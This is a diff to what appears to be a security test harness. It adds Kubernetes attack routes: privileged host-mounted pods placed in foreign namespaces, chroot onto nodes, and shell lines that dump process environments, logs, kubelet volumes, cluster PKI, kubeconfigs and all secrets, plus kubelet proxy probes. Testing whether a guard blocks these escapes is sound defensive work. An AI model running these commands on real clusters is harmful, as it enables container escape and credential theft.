@@ -11,6 +11,8 @@ if TYPE_CHECKING:
     from .place import Place
 
 MARK = "night-shift"
+# Namespaces that are not those of the application.
+FOREIGN = ("default", "kube-system")
 JSON_PATCH = "application/json-patch+json"
 MERGE_PATCH = "application/merge-patch+json"
 
@@ -27,13 +29,25 @@ def pod(name: str, **spec: Any) -> dict[str, Any]:
     }
 
 
+# What a node could tell of the harness, of hidden pods and of others' rights.
+HOST_LINES = (
+    "ps auxww; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline",
+    "crictl ps -a; crictl images; ctr -n k8s.io containers ls; ip link; iptables-save; ss -antp",
+    "journalctl --no-pager; dmesg; cat /var/log/containers/* /var/log/pods/*/*/*",
+    "find / -xdev; cat /root/.*; cat /root/* /tmp/* /home/*/*",
+    "cat /var/lib/kubelet/pods/*/volumes/*/*/*; find /var/lib/kubelet/pods -type f -exec cat {} +",
+    "cat /etc/kubernetes/*.conf /etc/kubernetes/pki/* /var/lib/kubelet/pki/* /var/lib/kube-proxy/*",
+    "kubectl --kubeconfig /etc/kubernetes/kubelet.conf get secrets -A -o yaml",
+)
+
+
 class NodeAccess(Route):
-    """Containers that reach the machine below them."""
+    """Containers that reach the machine below them, and what they find there."""
 
     name: ClassVar[str] = "privileged-containers"
 
     def attempt(self, place: Place, loot: Loot) -> None:
-        """Create them in every way, and change what is there into them."""
+        """Create them in every way, change what is there into them, and look around on a node."""
         host = [{"name": "h", "hostPath": {"path": "/"}}]
         kinds: tuple[dict[str, Any], ...] = (
             {"container": {"securityContext": {"privileged": True}}},
@@ -45,16 +59,38 @@ class NodeAccess(Route):
         base = f"/api/v1/namespaces/{place.namespace}/pods"
         for number, spec in enumerate(kinds):
             made = pod(f"{MARK}-{number}", **spec)
-            for namespace in (place.namespace, "default", "kube-system"):
+            for namespace in (place.namespace, *FOREIGN):
                 loot.take(place.api(f"/api/v1/namespaces/{namespace}/pods", "POST", made)[1])
             loot.take(place.kubectl("apply", "-f", "-", stdin=json.dumps(made)))
             loot.take(place.tool("kubectl", command="create -f -", stdin=json.dumps(made)))
             self._as_yaml(place, loot, base, number, made)
         self._patched(place, loot)
-        loot.take(place.kubectl("debug", "node/node1", "--image=busybox", "--", "true"))
+        first = next(iter(place.nodes()), "node")
+        loot.take(place.kubectl("debug", f"node/{first}", "--image=busybox", "--", "true"))
         for number in range(2 * len(kinds)):
             # What the guard's own record of this look says decides.
-            place.api(f"{base}/{MARK}-{number}")
+            for namespace in (place.namespace, *FOREIGN):
+                place.api(f"/api/v1/namespaces/{namespace}/pods/{MARK}-{number}")
+        self._looked_around(place, loot)
+
+    def _looked_around(self, place: Place, loot: Loot) -> None:
+        """As root on the nodes, where that is allowed."""
+        for number, node in enumerate(place.nodes()):
+            name = f"{MARK}-root-{number}"
+            container = {
+                "securityContext": {"privileged": True},
+                "volumeMounts": [{"name": "h", "mountPath": "/host"}],
+            }
+            volumes = [{"name": "h", "hostPath": {"path": "/"}}]
+            made = pod(name, container=container, volumes=volumes, hostPID=True, nodeName=node)
+            base = f"/api/v1/namespaces/{place.namespace}/pods"
+            if place.api(base, "POST", made)[0] not in (200, 201):
+                return
+            place.tool("wait", seconds=15)
+            for line in HOST_LINES:
+                words = f"exec {name} -n {place.namespace} -- chroot /host bash -c '{line}'"
+                loot.take(place.tool("kubectl", command=words))
+            place.api(f"{base}/{name}", "DELETE")
 
     def _as_yaml(self, place: Place, loot: Loot, base: str, number: int, made: Any) -> None:
         made["metadata"]["name"] = f"{MARK}-{number + 5}"
@@ -79,9 +115,12 @@ class NodeAccess(Route):
         loot.take(place.api(f"{deployments}/{name}", "PATCH", content, Content_Type=MERGE_PATCH)[1])
 
     def leaked(self, loot: Loot, known: Known) -> str:
-        """None of them may exist."""
+        """None may exist where that is not said to be allowed; and a node tells nothing."""
+        allowed = any("except in pods of their own" in refused for *_, refused in known.requests)
         for method, path, status, _ in known.requests:
-            if method == "GET" and f"/pods/{MARK}-" in path and status == 200:
+            foreign = any(f"/namespaces/{name}/pods/{MARK}-" in path for name in FOREIGN)
+            seen = method == "GET" and f"/pods/{MARK}-" in path and status == 200
+            if seen and (foreign or not allowed):
                 return f"a container that reaches its node was made: {path}"
             changed = method == "PATCH" and "/deployments/" in path and status == 200
             if changed and MARK not in path:
@@ -96,7 +135,8 @@ class Kubelet(Route):
 
     def attempt(self, place: Place, loot: Loot) -> None:
         """Ask through them."""
-        for node in ("node1", "node1:10250", "https:node1:10250"):
+        name = next(iter(place.nodes()), "node")
+        for node in (name, f"{name}:10250", f"https:{name}:10250"):
             for path in ("pods", "runningpods/", "logs/", "configz", "run/x/y/z", "exec/x/y/z"):
                 loot.take(place.api(f"/api/v1/nodes/{node}/proxy/{path}")[1])
         for target in ("https:kubernetes:443", "kubernetes"):
@@ -104,7 +144,7 @@ class Kubelet(Route):
             loot.take(place.api(f"/api/v1/proxy/namespaces/default/services/{target}/api/v1/secrets")[1])  # fmt: skip
         guesses = place.guesses
         loot.take(place.api(f"/api/v1/namespaces/{guesses['namespace']}/pods/{guesses['pod']}/proxy/env")[1])  # fmt: skip
-        loot.take(place.kubectl("get", "--raw", "/api/v1/nodes/node1/proxy/pods"))
+        loot.take(place.kubectl("get", "--raw", f"/api/v1/nodes/{name}/proxy/pods"))
         loot.take(place.kubectl("get", "--raw", "/debug/pprof/"))
         loot.take(place.kubectl("get", "--raw", "/logs/"))
 
